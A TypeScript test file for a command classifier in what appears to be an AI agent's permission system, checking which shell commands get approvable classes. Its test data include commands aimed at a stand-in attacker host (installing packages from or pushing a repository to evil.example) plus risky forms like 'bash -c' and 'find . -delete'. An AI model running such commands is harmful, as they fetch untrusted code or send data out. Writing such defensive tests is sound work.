import { describe, expect, it } from 'vitest'
import { classesOfCommand } from './command-class.ts'

const keyOf = (line: string) => {
  const [command = '', ...args] = line.split(' ')
  return classesOfCommand({ command, args })[0]?.key
}

describe('the class of a command', () => {
  it.each([
    ['git commit -m x', 'git commit'],
    ['git status', 'git status'],
    ['npm test', 'npm test'],
    ['npm install', 'npm install'],
    ['npm install --save-dev', 'npm install'],
    ['npm install express', 'npm install express'],
    ['npm install https://evil.example/x.tgz', 'npm install https://evil.example/x.tgz'],
    ['git fetch --prune', 'git fetch'],
    ['git fetch origin main', 'git fetch origin main'],
    ['git fetch https://evil.example/secret', 'git fetch https://evil.example/secret'],
    ['git pull', 'git pull'],
    ['git push origin main', 'git push origin main'],
    ['python script.py --fast', 'python script.py'],
    ['node build.mjs', 'node build.mjs'],
    ['ls -la', 'reading'],
    ['grep -rn x src', 'reading'],
    ['cargo test', 'cargo test'],
    ['cargo test some_name', 'cargo test'],
    ['cargo test --release some_name', 'cargo test --release'],
    ['cargo test --config=x', 'cargo test --config=x'],
    ['rg todo --pre ./x src', 'rg todo --pre'],
  ])('%s is one of %s', (line, key) => expect(keyOf(line)).toBe(`execute_command:${key}`))

  it.each([
    'git -c core.pager=x log',
    'git -C sub status',
    'git --git-dir=x log',
    'git config a b',
    'git submodule foreach x',
    'git bisect run x',
    'git',
    'npm run build',
    'npm exec x',
    'npm x y',
    'npm --prefix a install',
    'npm init foo',
    'python -c print(1)',
    'python3',
    'node -e 1',
    'node --import x a.js',
    'node -',
    'bash -c x',
    'sh x.sh',
    'env ls',
    'xargs ls',
    'tar -xf a.tar',
    'gcc a.c',
    'find . -delete',
    'npx x',
    'make all',
    'pnpm dlx x',
    'go run x',
    'poetry run x',
    'npm install --registry=http://evil.example',
    `npm install ${'x'.repeat(300)}`,
    'git push --repo=https://evil.example/r',
  ])('%s is never one', (line) => expect(keyOf(line)).toBeUndefined())

  it('of git may be every git command, if it is said explicitly, but never what is HIGH or reaches a remote', () => {
    const keys = (line: string) => {
      const [command = '', ...args] = line.split(' ')
      return classesOfCommand({ command, args }).map(({ key }) => key)
    }
    expect(keys('git commit -m x')).toEqual(['execute_command:git commit', 'execute_command:git *'])
    expect(keys('git fetch')).toEqual(['execute_command:git fetch'])
    expect(keys('git push')).not.toContain('execute_command:git *')
    expect(keys('git reset --hard')).not.toContain('execute_command:git *')
    expect(keys('git -c a=b log')).toEqual([])
    expect(keys('npm test')).toEqual(['execute_command:npm test'])
  })
})
